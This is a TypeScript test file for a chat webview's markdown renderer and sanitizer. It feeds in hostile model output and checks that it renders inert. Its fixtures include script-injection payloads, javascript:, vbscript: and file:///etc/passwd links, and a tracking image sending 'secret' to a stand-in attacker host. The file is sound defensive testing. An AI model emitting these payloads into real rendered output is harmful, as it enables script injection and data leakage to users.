// Hostile model output (bad-inputs.md case 31) through the webview's renderer: nothing runs, nothing
// loads, only http(s) links stay links, raw HTML shows as text. Both layers are checked: markdown-it's
// rendering (remote images become links, other schemes inert text) and DOMPurify behind it alone.
import * as assert from 'node:assert/strict';
import { JSDOM } from 'jsdom';
import { StreamingMarkdown } from '../../src/webview/markdown';
import { sanitizeToFragment } from '../../src/webview/sanitize';

const HOSTILE = [
  '<script>alert(1)</script>',
  '',
  'Inline <img src=x onerror=alert(1)> and <b onclick="alert(1)">bold?</b>',
  '',
  '![x](https://evil.example/t.png)',
  '',
  '![pixel](https://evil.example/?q=secret "tracker") and ![](http://evil.example/empty.gif)',
  '',
  '[click](javascript:alert(1)) [vb](vbscript:msgbox(1)) [file](file:///etc/passwd) ' +
    '[data](data:text/html;base64,PHNjcmlwdD4=)',
  '',
  '[cmd](command:workbench.action.terminal.new) [relative](./README.md) [proto](//evil.example/x) ' +
    '[mail](mailto:a@b.example)',
  '',
  '<iframe src="https://evil.example"></iframe>',
  '',
  'Autolinks: <javascript:alert(1)> <https://ok.example/page> javascript:alert(1) www.example.com',
  '',
  '[ref link][bad] and [good link][good]',
  '',
  '[bad]: javascript:alert(1)',
  '',
  '[good]: https://good.example/',
  '',
  '<style>body { display: none }</style><form action="https://evil.example"><input name=q></form>',
  '',
  '[![badge](https://evil.example/badge.svg)](https://project.example/)',
  '',
  '![chart](data:image/png;base64,iVBORw0KGgo=) ![svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
  '',
  '```html',
  '<script>alert("in code")</script>',
  '```',
  '',
  '<a href="javascript:alert(1)">raw anchor</a>',
].join('\n');

function render(text: string, stream: boolean): HTMLElement {
  const { window } = new JSDOM('<!doctype html><body></body>');
  let frame: FrameRequestCallback | undefined;
  window.requestAnimationFrame = (callback) => ((frame = callback), 1);
  window.cancelAnimationFrame = () => (frame = undefined);
  const root = window.document.createElement('div');
  window.document.body.append(root);
  const markdown = new StreamingMarkdown(root);
  if (stream) {
    for (let i = 0; i < text.length; i += 7) {
      markdown.append(text.slice(i, i + 7));
      frame?.(0);
    }
  } else markdown.reset(text);
  markdown.finish();
  return root;
}

/** What must never be in the DOM, whichever layer removed it. */
function assertInert(root: Element): void {
  assert.equal(
    root.querySelectorAll('script, iframe, frame, object, embed, style, link, meta, form, input, textarea, svg, math')
      .length,
    0,
  );
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      assert.ok(!name.startsWith('on'), `${element.tagName} has ${name}`);
      assert.notEqual(name, 'style', `${element.tagName} has a style attribute`);
      if (name === 'href') assert.match(value, /^https?:\/\//, `${element.tagName} href=${value}`);
      if (name === 'src') assert.match(value, /^data:image\/(png|gif|jpe?g|webp);/, `${element.tagName} src=${value}`);
    }
  }
  for (const image of root.querySelectorAll('img')) assert.match(image.getAttribute('src') ?? '', /^data:image\/png;/);
}

describe('StreamingMarkdown with hostile output', () => {
  for (const stream of [false, true]) {
    describe(stream ? 'streamed in 7-character deltas' : 'rendered at once', () => {
      const root = render(HOSTILE, stream);
      const text = root.textContent ?? '';
      const links = [...root.querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href')]);

      it('nothing runs or loads: no script, iframe, form, style, event handler, remote image, non-http(s) href', () =>
        assertInert(root));

      it('raw HTML is shown as text', () => {
        for (const raw of [
          '<script>alert(1)</script>',
          '<img src=x onerror=alert(1)>',
          '<b onclick="alert(1)">',
          '<iframe src="https://evil.example"></iframe>',
          '<style>',
          '<a href="javascript:alert(1)">raw anchor</a>',
        ]) {
          assert.ok(text.includes(raw), raw);
        }
        assert.equal(root.querySelector('b'), null);
      });

      it('a remote image is a link labelled with its alt text, never an <img>', () => {
        assert.deepEqual(
          [...root.querySelectorAll('a.md-image-link')].map((a) => [a.textContent, a.getAttribute('href')]),
          [
            ['x', 'https://evil.example/t.png'],
            ['pixel', 'https://evil.example/?q=secret'],
            ['image', 'http://evil.example/empty.gif'],
          ],
        );
        assert.equal(
          root.querySelector('.md-image-alt')?.textContent,
          'badge',
          'inside a link: text, not a second link',
        );
        assert.equal(root.querySelectorAll('img').length, 1, 'only the inline PNG');
        assert.ok(text.includes('svg'), 'an SVG data image is its alt text');
      });

      it('only http(s) links are links; other schemes are inert text', () => {
        assert.deepEqual(links, [
          ['x', 'https://evil.example/t.png'],
          ['pixel', 'https://evil.example/?q=secret'],
          ['image', 'http://evil.example/empty.gif'],
          // A URL in escaped raw HTML is still a URL in the text: linkified, like any other.
          ['https://evil.example', 'https://evil.example'],
          ['https://ok.example/page', 'https://ok.example/page'],
          ['www.example.com', 'http://www.example.com'],
          ['good link', 'https://good.example/'],
          ['https://evil.example', 'https://evil.example'],
          ['badge', 'https://project.example/'],
        ]);
        for (const label of ['cmd', 'relative', 'proto', 'mail']) {
          assert.ok(
            [...root.querySelectorAll('span.md-link-inert')].some((span) => span.textContent === label),
            label,
          );
        }
        // markdown-it refuses these schemes outright: the source stays as text.
        for (const source of [
          '[click](javascript:alert(1))',
          '[vb](vbscript:msgbox(1))',
          '[file](file:///etc/passwd)',
          '<javascript:alert(1)>',
          '[ref link][bad]',
        ]) {
          assert.ok(text.includes(source), source);
        }
      });

      it('code is shown, not run', () => {
        assert.equal(root.querySelector('div.code-block code')?.textContent, '<script>alert("in code")</script>\n');
      });
    });
  }

  describe('DOMPurify, the second layer, on its own', () => {
    const { window } = new JSDOM('<!doctype html><body></body>');
    const clean = (html: string) => {
      const box = window.document.createElement('div');
      box.append(sanitizeToFragment(html, window as unknown as Window & typeof globalThis));
      return box;
    };

    it('removes what markdown-it would never emit', () => {
      const box = clean(
        '<p style="color:red" onclick="alert(1)">p</p><img src="https://evil.example/x.png">' +
          '<img src=x onerror=alert(1)>' +
          '<a href="javascript:alert(1)">js</a><a href="command:x">cmd</a><a href="https://ok.example/">ok</a>' +
          '<iframe src="https://evil.example"></iframe><form><input></form><script>alert(1)</script>' +
          '<svg><script>alert(1)</script></svg>' +
          '<div class="code-block" data-language="ts" data-action="copy"><pre><code class="hljs">x</code></pre></div>',
      );
      assertInert(box);
      assert.equal(box.querySelectorAll('img').length, 0);
      assert.deepEqual(
        [...box.querySelectorAll('a')].map((a) => a.getAttribute('href')),
        [null, null, 'https://ok.example/'],
      );
      assert.equal(box.querySelector('div.code-block')?.getAttribute('data-language'), 'ts', 'our attributes are kept');
      assert.equal(
        box.querySelector('div.code-block')?.hasAttribute('data-action'),
        false,
        'other data attributes are not',
      );
    });

    it('keeps an inline raster image', () => {
      const box = clean(
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a"><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
      );
      assert.deepEqual(
        [...box.querySelectorAll('img')].map((img) => img.getAttribute('alt')),
        ['a'],
      );
    });
  });
});
